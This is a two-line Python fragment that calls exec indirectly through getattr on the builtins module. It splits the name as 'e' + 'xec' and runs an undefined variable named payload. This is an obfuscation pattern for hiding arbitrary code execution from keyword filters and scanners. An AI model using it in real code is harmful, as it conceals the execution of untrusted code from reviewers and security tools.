import builtins
getattr(builtins, "e" + "xec")(payload)
